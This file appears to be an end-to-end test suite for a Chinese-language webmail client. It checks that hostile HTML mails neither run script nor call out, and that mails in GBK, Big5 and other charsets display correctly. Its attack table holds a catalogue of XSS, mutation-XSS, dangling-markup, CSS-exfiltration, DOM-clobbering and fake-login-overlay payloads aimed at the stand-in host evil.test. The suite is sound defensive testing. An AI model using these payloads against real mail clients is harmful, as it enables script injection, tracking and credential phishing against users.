import { execFileSync } from "node:child_process";
import { addMember, bodyOf, importMail, type Person, signIn } from "../support/member";
import { setUpOrganisation } from "../support/organisation";
import { expect, test } from "../support/story";

const ren: Person = { name: "任熙", prefix: "renxi" };
const elsewhere = "http://evil.test";

/** Ways to run something, to fetch something, to leave the page or to ask for a password, as they are found in the wild. */
const attacks: Record<string, string> = {
  script: "<script>top.pwned=1;alert(1)</script>",
  "script in svg": '<svg><script href="data:text/javascript,top.pwned=1"/><script>top.pwned=1</script></svg>',
  "broken picture": `<img src=x onerror="top.pwned=1"><img src="${elsewhere}/a.gif" onload="top.pwned=1">`,
  "svg events": '<svg onload="top.pwned=1"><animate onbegin="top.pwned=1" attributeName=x dur=1s></svg>',
  details: '<details open ontoggle="top.pwned=1">x</details>',
  "body events": '<body onload="top.pwned=1" onpageshow="top.pwned=1" background="http://evil.test/bg.png">',
  frames: `<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><frameset><frame src="${elsewhere}/f"></frameset>`,
  objects: `<object data="${elsewhere}/o.swf"></object><embed src="${elsewhere}/e.svg"><applet code=x archive="${elsewhere}/a.jar"></applet>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${elsewhere}/away"><meta http-equiv="Set-Cookie" content="a=b">`,
  base: `<base href="${elsewhere}/"><img src="relative.png"><a href="x">x</a>`,
  form: `<form action="${elsewhere}/login"><input name=p type=password autofocus onfocus="top.pwned=1"><button formaction="javascript:top.pwned=1">x</button></form>`,
  styles: `<style>@import url(${elsewhere}/i.css);body{background:url(${elsewhere}/b.png)}@font-face{font-family:x;src:url(${elsewhere}/f.woff)}p{font-family:x}</style><p>x</p>`,
  "style attributes": `<p style="background-image:url(${elsewhere}/s.png);list-style-image:url('${elsewhere}/l.png');cursor:url(${elsewhere}/c.cur),auto;width:expression(top.pwned=1)">x</p>`,
  "escaped styles": `<p style="background:u\\72l(${elsewhere}/esc.png);behavior:url(${elsewhere}/h.htc)">x</p>`,
  links: `<link rel=stylesheet href="${elsewhere}/l.css"><link rel=prefetch href="${elsewhere}/p"><link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="${elsewhere}">`,
  addresses: `<a href="javascript:top.pwned=1">a</a><a href="java\tscript:top.pwned=1">b</a><a href="&#106;avascript:top.pwned=1">c</a><a href="data:text/html,<script>top.pwned=1</script>">d</a><a href="vbscript:x">e</a>`,
  pictures: `<img srcset="${elsewhere}/1x.png 1x, ${elsewhere}/2x.png 2x"><picture><source srcset="${elsewhere}/s.webp"><img src="//evil.test/p.png"></picture><input type=image src="${elsewhere}/i.png">`,
  media: `<video poster="${elsewhere}/p.jpg" src="${elsewhere}/v.mp4" autoplay onloadstart="top.pwned=1"></video><audio src="${elsewhere}/a.mp3" autoplay></audio><track src="${elsewhere}/t.vtt">`,
  tables: `<table background="${elsewhere}/t.png"><tr><td background="${elsewhere}/td.png">x</td></tr></table>`,
  "svg pictures": `<svg><image href="${elsewhere}/i.svg"/><use href="${elsewhere}/u.svg#x"/><foreignObject><iframe src="${elsewhere}/fo"></iframe></foreignObject></svg>`,
  "mixed grammars":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  noscript: '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>">',
  "unfinished tags": `<div title='"><img src=x onerror=top.pwned=1>'><img src="${elsewhere}/dangling?`,
  comments: "<!--><script>top.pwned=1</script--><!-- --!><img src=x onerror=top.pwned=1> -->",
  templates: "<template><img src=x onerror=top.pwned=1></template><slot onslotchange=top.pwned=1></slot>",
  "clobbered names": "<a id=location href=x><form id=document><img name=cookie><input id=body></form>",
  overlays: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">请重新登录</div>',
};

const messageOf = (subject: string, html: string) =>
  Buffer.from(
    `From: Mallory <mallory@evil.test>\r\nTo: renxi@example.test\r\nSubject: ${subject}\r\nMessage-ID: <${encodeURIComponent(subject)}@evil.test>\r\n` +
      `Date: Sat, 21 Nov 2026 09:00:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>END OF MAIL</p>${html}\r\n`,
  );

test("hostile mails neither run anything nor call out", async ({ browser, request, server }) => {
  await setUpOrganisation(request, server, "zh-CN");
  await addMember(request, server, ren);
  const page = await signIn(browser, server, ren);
  const strange: string[] = [];
  page.context().on("request", (sent) => {
    if (new URL(sent.url()).origin !== server.url && !sent.url().startsWith("data:")) strange.push(sent.url());
  });
  page.on("dialog", (dialog) => {
    strange.push(`dialogue: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on("page", (opened) => strange.push(`window: ${opened.url()}`));
  for (const [name, html] of Object.entries(attacks)) {
    const thread = await importMail(page, messageOf(name, html));
    await page.goto(`/mail/inbox/${thread}`);
    await expect.poll(() => bodyOf(page), name).toContain("END OF MAIL");
    // Also what runs a moment later, and what waits for somebody to click.
    for (const link of await page
      .locator("iframe")
      .evaluateAll((frames) =>
        frames.flatMap((frame) =>
          [...((frame as HTMLIFrameElement).contentDocument?.querySelectorAll("a[href]") ?? [])].map(
            (a) => a.getAttribute("href") ?? "",
          ),
        ),
      )) {
      expect(link, name).toMatch(/^(https?:|mailto:|tel:|#)/i);
    }
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned), name).toBeUndefined();
    expect(new URL(page.url()).origin, name).toBe(server.url);
    // Nothing of a mail reaches over the edge of its frame: the page can still be used.
    await page.getByRole("toolbar").getByRole("button", { name: "标为未读" }).click({ trial: true });
  }
  expect(strange).toEqual([]);
  await page.context().close();
});

test("mails in the charsets of Chinese programs are read, found and answered unharmed", async ({
  browser,
  request,
  server,
}) => {
  await setUpOrganisation(request, server, "zh-CN");
  await addMember(request, server, ren);
  const page = await signIn(browser, server, ren);
  const mails = [
    { charset: "gbk", subject: "关于職務的通知", text: "请镕、喆两位同志参会。" },
    { charset: "gb18030", subject: "生僻字䶮㙍", text: "姓名含有䶮字，另有𠮷野家。" },
    { charset: "big5", subject: "會議通知", text: "請於週三前回覆，謝謝。" },
    { charset: "utf-8", subject: "生日快乐🎂", text: "祝你👨‍👩‍👧‍👦全家🎉" },
  ];
  for (const { charset, subject, text } of mails) {
    const program = `import sys,base64;from email.header import Header
c,s,t=sys.argv[1:];h=lambda x:'=?%s?B?%s?='%(c,base64.b64encode(x.encode(c)).decode())
sys.stdout.buffer.write(('From: %s <li@elsewhere.test>\\r\\nTo: renxi@example.test\\r\\nSubject: %s\\r\\nMessage-ID: <%s@elsewhere.test>\\r\\nDate: Sat, 21 Nov 2026 09:00:00 +0800\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/plain; charset=%s\\r\\nContent-Transfer-Encoding: 8bit\\r\\n\\r\\n'%(h('李明'),h(s),c,c)).encode()+t.encode(c)+b'\\r\\n')`;
    const message = execFileSync("python3", ["-c", program, charset, subject, text]);
    const thread = await importMail(page, message);
    await page.goto(`/mail/inbox/${thread}`);
    await expect(page.getByRole("heading", { level: 2 })).toContainText(subject);
    await expect.poll(() => bodyOf(page), charset).toContain(text);
    await page.keyboard.press("r");
    const mail = page.getByRole("dialog").last();
    await expect(mail.getByLabel("主题")).toHaveValue(`Re: ${subject}`);
    await mail.getByRole("button", { name: "引用的原文" }).click();
    await expect(mail.locator("iframe")).toHaveAttribute("srcdoc", new RegExp(text));
    await mail.getByRole("button", { name: "丢弃草稿" }).click();
    await page.goto(`/mail/inbox?q=${encodeURIComponent(text.slice(1, 4))}`);
    await expect(page.getByRole("listitem").filter({ hasText: subject })).toBeVisible();
  }
  await page.context().close();
});
